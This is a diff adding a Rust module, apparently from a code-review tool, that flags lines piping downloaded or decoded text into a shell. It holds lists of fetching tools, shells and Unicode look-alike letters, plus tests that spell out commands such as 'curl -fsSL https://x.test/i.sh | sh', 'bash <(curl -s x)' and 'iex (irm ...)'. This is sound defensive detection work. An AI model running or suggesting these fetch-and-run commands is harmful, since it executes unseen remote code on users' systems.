@@ -1,0 +1,164 @@
+//! Lines that run what they download or decode.
+
+use std::sync::LazyLock;
+
+use aho_corasick::packed::{Config, Searcher};
+
+use super::{MAX_COMMAND, programs, trimmed};
+
+/// Programs that bring text from elsewhere, or turn into text what nobody can read.
+const BRING: &[&str] = &[
+    "curl",
+    "wget",
+    "fetch",
+    "base64",
+    "xxd",
+    "openssl",
+    "iwr",
+    "irm",
+    "invoke-webrequest",
+    "invoke-restmethod",
+];
+
+/// Programs that run what they are given on standard input, whatever their options.
+const SHELLS_THAT_RUN: &[&str] =
+    &["sh", "bash", "zsh", "dash", "ksh", "iex", "invoke-expression", "osascript"];
+
+/// Programs that do so where they have no argument, or a dash.
+const OTHERS_THAT_RUN: &[&str] =
+    &["python", "python2", "python3", "perl", "ruby", "node", "php", "pwsh", "powershell"];
+
+/// Characters that become a letter of [`BRING`] in lower case: the sign of Kelvin, and a capital I with a dot.
+const LETTERS: &[&str] = &["\u{212a}", "\u{130}"];
+
+/// The lines of `text`, which stands at byte `base`, that run what they download or decode: nobody
+/// sees what runs. They are found in prose too, because that is where people copy them from.
+pub(in crate::review) fn unseen(text: &str, base: usize) -> Vec<(usize, &str)> {
+    let lower = text.to_ascii_lowercase();
+    let mut found = Vec::new();
+    let mut from = 0;
+    // Only a line that names what brings text can be one, and nearly all texts have none.
+    while let Some(at) = bringer(&lower[from..]).map(|at| from + at) {
+        let start = memchr::memrchr(b'\n', &text.as_bytes()[..at]).map_or(0, |at| at + 1);
+        let end = memchr::memchr(b'\n', &text.as_bytes()[at..]).map_or(text.len(), |end| at + end);
+        let line = &text[start..end];
+        if memchr::memchr2(b'|', b'(', line.as_bytes()).is_some() && runs_unseen(trimmed(line)) {
+            found.push((base + start, trimmed(line)));
+        }
+        from = end;
+    }
+    found
+}
+
+/// Where the first name of [`BRING`] stands in `lower`, which has no capital letters of ASCII, or what may become
+/// a part of one.
+fn bringer(lower: &str) -> Option<usize> {
+    /// Finds all of them at once; `None` where the processor has no instructions for that.
+    static ALL: LazyLock<Option<Searcher>> =
+        LazyLock::new(|| Config::new().builder().extend(BRING).extend(LETTERS).build());
+    match &*ALL {
+        Some(all) => all.find(lower).map(|found| found.start()),
+        None => BRING.iter().chain(LETTERS).filter_map(|name| lower.find(name)).min(),
+    }
+}
+
+fn runs_unseen(line: &str) -> bool {
+    let line = line[..line.floor_char_boundary(MAX_COMMAND)].to_lowercase();
+    let bring = |text: &str| programs(text).iter().any(|name| BRING.contains(&base_name(name)));
+    let mut brought = false;
+    for part in line.split('|') {
+        if brought && runs_input(part) {
+            return true;
+        }
+        brought |= bring(part);
+    }
+    // `bash <(curl …)`, `eval "$(curl …)"`, `iex (irm …)`.
+    ["<(", "$(", "("].iter().any(|open| {
+        line.match_indices(open).any(|(at, _)| {
+            let (before, inner) = (&line[..at], &line[at + open.len()..]);
+            let last = before.rsplit(['|', ';', '&', '`']).next().unwrap_or_default();
+            let last = last.trim_end_matches(['"', '\'', ' ', '$', '<']);
+            let runs = programs(last).first().is_some_and(|name| {
+                let name = base_name(name);
+                SHELLS_THAT_RUN.contains(&name) || matches!(name, "eval" | "source" | ".")
+            });
+            runs && programs(inner).first().is_some_and(|name| BRING.contains(&base_name(name)))
+        })
+    })
+}
+
+/// Whether a part of a pipe runs what comes through it.
+fn runs_input(part: &str) -> bool {
+    let Some(program) = programs(part).into_iter().next() else { return false };
+    let name = base_name(&program);
+    let mut after = part.split_whitespace().skip_while(|word| !word.contains(program.as_str())).skip(1);
+    let ends = |word: &&str| matches!(word.trim_matches('`'), "" | "-" | ";" | "&&");
+    if SHELLS_THAT_RUN.contains(&name) {
+        return !after.any(|word| word == "-c");
+    }
+    OTHERS_THAT_RUN.contains(&name) && after.next().is_none_or(|word| ends(&word))
+}
+
+/// `bash` of `/bin/bash` and of `bash"`.
+fn base_name(program: &str) -> &str {
+    let name = program.rsplit('/').next().unwrap_or(program);
+    name.trim_matches(|c: char| !c.is_alphanumeric() && c != '-' && c != '.')
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    /// THREATS ms15-b64-sh: what is written otherwise is found where the shell would take it for the same.
+    #[test]
+    fn names_are_found_in_any_case_and_among_other_letters() {
+        let lines = ["CURL x | Bash", "é \u{212a} curl x | sh", "Invo\u{212a}e-WebRequest x | iex"];
+        let text = lines.join("\nbase64 of é (|)\n");
+        let found: Vec<_> = unseen(&text, 0).into_iter().map(|(_, line)| line).collect();
+        assert_eq!(found, [lines[0], lines[2]]);
+        for name in BRING {
+            assert_eq!(
+                unseen(&format!("É\n{} x | sh\n{name} y | sh", name.to_uppercase()), 0).len(),
+                2,
+                "{name}"
+            );
+        }
+    }
+
+    /// THREATS ms15-b64-sh, and what only looks like it.
+    #[test]
+    fn what_runs_unseen() {
+        for line in [
+            "echo Y3VybCB4 | base64 -D | bash",
+            "curl -fsSL https://x.test/i.sh | sh",
+            "Run `curl https://x.test | sudo -E bash -s -- --yes` first.",
+            "wget -qO- x|/bin/sh",
+            "bash <(curl -s x)",
+            "sh -c \"$(curl -fsSL x)\"",
+            "eval \"$(wget -qO- x)\"",
+            "iex (irm https://x.test/i.ps1)",
+            "irm https://x.test/i.ps1 | iex",
+            "curl x | python3 -",
+            "curl x | perl",
+            "$ cat x | openssl enc -d | zsh",
+            "> curl x | sh",
+        ] {
+            assert_eq!(unseen(&format!("a\n{line}\nb"), 3).len(), 1, "{line}");
+        }
+        for line in [
+            "curl x | jq .",
+            "curl x | python3 -m json.tool",
+            "curl x | python3 -c 'import json'",
+            "| curl | downloads |",
+            "cat x | sh",
+            "bash (see curl)",
+            "x=$(curl y)",
+            "curl x | bash -c 'cat'",
+            "cat <(curl x)",
+            "base64 x | tee y",
+        ] {
+            assert_eq!(unseen(line, 0), [], "{line}");
+        }
+        assert_eq!(unseen("é\n a | curl x |sh \n", 10), [(13, "a | curl x |sh")]);
+    }
+}
